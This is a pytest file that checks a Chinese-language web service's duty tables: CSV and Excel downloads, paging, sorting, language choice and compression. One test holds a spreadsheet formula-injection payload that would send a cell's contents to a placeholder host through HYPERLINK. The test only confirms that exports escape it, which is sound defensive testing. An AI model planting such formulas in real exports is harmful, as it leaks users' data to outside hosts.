"""The pages' tables over real HTTP (issue 18): sorted, filtered and paged on the server; downloads as CSV with
a BOM and as Excel a 安委办 can work in (widths, frozen header, autofilter, formulas escaped); one plan at a
time unless all are asked for; Chinese first, English on request and remembered."""
from __future__ import annotations

import csv
import io
import re

import httpx
import openpyxl
import pytest
from conftest import CD, LT, serving, t

from dutygraph.graph import table_view
from dutygraph.service import i18n
from dutygraph.service.app import Settings, create_app

ZH = {"Accept-Language": "zh-CN,zh;q=0.9"}
TABLE_PAGES = ["/questions/shared-facilities", "/questions/orphans", "/questions/duplicates", "/questions/dependencies",
               "/questions/alignments", "/questions/centrality", "/departments", "/facility-types", "/regulations",
               "/departments/" + "https%3A%2F%2Fw3id.org%2Fdutygraph%2Forg%2Fchengdu%2Femergency",
               "/facility-types/" + "https%3A%2F%2Fw3id.org%2Fdutygraph%2Ffacility%2Fschool",
               "/search?q=" + "%E7%87%83%E6%B0%94"]


@pytest.fixture(scope="module")
def http(loaded_store):
    with serving(create_app(Settings(timeout_s=5), store=loaded_store)) as url, \
            httpx.Client(base_url=url, timeout=60, headers=ZH) as client:
        yield client


def _get(http: httpx.Client, path: str, **params: str) -> httpx.Response:
    http.cookies.clear()
    joiner = "&" if "?" in path else "?"
    return http.get(path + (joiner + "&".join(f"{k}={v}" for k, v in params.items()) if params else ""))


@pytest.mark.parametrize("path", TABLE_PAGES)
def test_every_table_downloads_as_csv_with_bom_and_as_a_workable_xlsx(http, path):
    got = _get(http, path, format="csv")
    assert got.status_code == 200 and got.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert len(rows) > 1 and all(re.search(r"[\u4e00-\u9fff]", h) for h in rows[0]), rows[0]
    book = openpyxl.load_workbook(io.BytesIO(_get(http, path, format="xlsx").content))
    sheet = book.active
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    assert sheet.max_row == len(rows)
    widths = [sheet.column_dimensions[c].width for c in "ABC"[:sheet.max_column]]
    assert all(w and w >= 6 for w in widths)


def test_a_download_holds_every_filtered_row_not_only_the_page(http):
    page = _get(http, "/questions/orphans", reasons="no_requirements", size="5")
    assert page.text.count('<span class="tag reason-') == 5
    rows = list(csv.DictReader(io.StringIO(_get(http, "/questions/orphans", reasons="no_requirements", size="5",
                                                format="csv").content.decode("utf-8-sig"))))
    assert len(rows) > 5 and all("无工作要求" in r["问题"] for r in rows)


def test_pairs_in_downloads_are_one_pair_a_line(http):
    rows = list(csv.DictReader(io.StringIO(_get(http, "/questions/shared-facilities", format="csv")
                                           .content.decode("utf-8-sig"))))
    pairs = next(r["同一任务上共同负责的部门"] for r in rows if r["同一任务上共同负责的部门"])
    assert all(len(line.split(" — ")) == 2 for line in pairs.splitlines())
    api = http.get("/api/shared-facilities", params={"format": "csv", "limit": 1}).content.decode("utf-8-sig")
    assert " — " in api and "\n" in next(csv.DictReader(io.StringIO(api)))["co_responsible"]


def test_matrix_downloads_one_sheet_per_plan(http):
    book = openpyxl.load_workbook(io.BytesIO(_get(http, "/questions/shared-facilities/matrix", plan="all",
                                                  format="xlsx").content))
    assert len(book.worksheets) == 2
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "部门" and sheet.freeze_panes == "A2" and sheet.max_column > 20


def test_formula_text_stays_text_in_page_downloads(http):
    row = {"text": '=HYPERLINK("http://x/?d="&B3,"点")'}
    from dutygraph.service.output import to_csv

    assert "'=HYPERLINK" in to_csv([row]) and http is not None


@pytest.mark.parametrize("path, needle", [
    ("/questions/orphans", "仅有集合性单位"), ("/questions/duplicates?plan=" + LT, "平行"),
    ("/questions/dependencies?plan=" + LT, "措施落实为任务"), ("/", "已载入的计划"),
])
def test_pages_speak_chinese_and_english_on_request(http, path, needle):
    assert needle in _get(http, path).text
    english = _get(http, path, lang="en")
    assert needle not in english.text and english.cookies.get("lang") == "en"
    assert needle not in http.get(path).text            # the cookie remembers the choice
    assert needle in http.get(path, headers={"Accept-Language": "en"}, params={"lang": "zh"}).text
    http.cookies.clear()
    assert needle not in http.get(path, headers={"Accept-Language": "en-US,en;q=0.9"}).text


def test_plans_are_never_pooled_silently(http):
    first = _get(http, "/questions/shared-facilities").text
    assert "区应急管理局" not in first and "市应急局" in first            # Chengdu only by default
    both = _get(http, "/questions/shared-facilities", plan="all", size="200").text
    assert "区应急管理局" in both and "市应急局" in both and "西安市临潼区国家安全" in both
    lintong = _get(http, "/questions/shared-facilities", plan=LT).text
    assert "市应急局" not in lintong.split("<main>")[1]


def test_sort_filter_and_page_on_the_server(http):
    page1 = _get(http, "/questions/centrality", plan="all", sort="n_tasks", dir="desc", size="5").text
    page2 = _get(http, "/questions/centrality", plan="all", sort="n_tasks", dir="desc", size="5", page="2").text
    numbers = lambda html: [int(n) for n in re.findall(r'<td class="num">(\d+)</td><td class="num">0\.', html)]
    assert numbers(page1) == sorted(numbers(page1), reverse=True) and min(numbers(page1)) >= max(numbers(page2))
    found = _get(http, "/departments", q="应急").text
    assert "市应急局" in found and "市公安局" not in found


def test_no_iri_in_any_page_text(http):
    for path in TABLE_PAGES + ["/", f"/tasks/{t(CD, 12).replace(':', '%3A').replace('/', '%2F')}"]:
        body = _get(http, path).text.split("<main>")[1].split("</main>")[0]
        visible = re.sub(r"<[^>]+>", " ", body)
        assert not re.search(r"https?://|w3id\.org", visible), path


def test_table_view_sorts_empties_last_and_counts_facets():
    rows = [{"n": 3, "r": ["a"], "s": "乙"}, {"n": None, "r": ["a", "b"], "s": "甲"}, {"n": 1, "r": [], "s": "丙"}]
    for descending in (False, True):
        view = table_view.apply(rows, table_view.TableQuery(sort="n", descending=descending), ("s",), ("r",))
        assert view.rows[-1]["n"] is None
    view = table_view.apply(rows, table_view.TableQuery(facets=(("r", "a"),), size=1, page=9), ("s",), ("r",))
    assert view.matched == 2 and view.query.page == 2 and view.facet_counts["r"] == {"a": 2, "b": 1}
    assert table_view.TableQuery.parse({"page": "x", "size": "100000"}).size == table_view.MAX_SIZE


def test_language_choice():
    assert i18n.choose({}, {}, "zh-CN,zh;q=0.9,en;q=0.8") == "zh"
    assert i18n.choose({}, {}, "en-US,en;q=0.9") == "en"
    assert i18n.choose({"lang": "zh"}, {"lang": "en"}, "en") == "zh"
    assert i18n.choose({}, {"lang": "en"}, "zh-CN") == "en"
    assert i18n.Messages("zh")("no_deadline") == "无完成时限" and i18n.Messages("en")("unknown_code") == "unknown_code"


@pytest.mark.parametrize("path", ["/questions/alignments?plan=all&size=200", "/questions/duplicates?plan=all&format=csv"])
def test_large_pages_go_compressed_to_who_accepts_it_and_plain_to_who_does_not(http, path):
    for _ in range(2):                                   # built, then sent as kept
        packed = http.get(path, headers={"Accept-Encoding": "gzip"})
        plain = http.get(path, headers={"Accept-Encoding": "identity"})
        assert packed.headers["content-encoding"] == "gzip" and "content-encoding" not in plain.headers
        assert packed.headers["vary"] == plain.headers["vary"] == "Accept-Encoding"
        assert packed.content == plain.content and len(plain.content) > 32 * 1024
        assert int(packed.headers["content-length"]) < len(plain.content) / 3
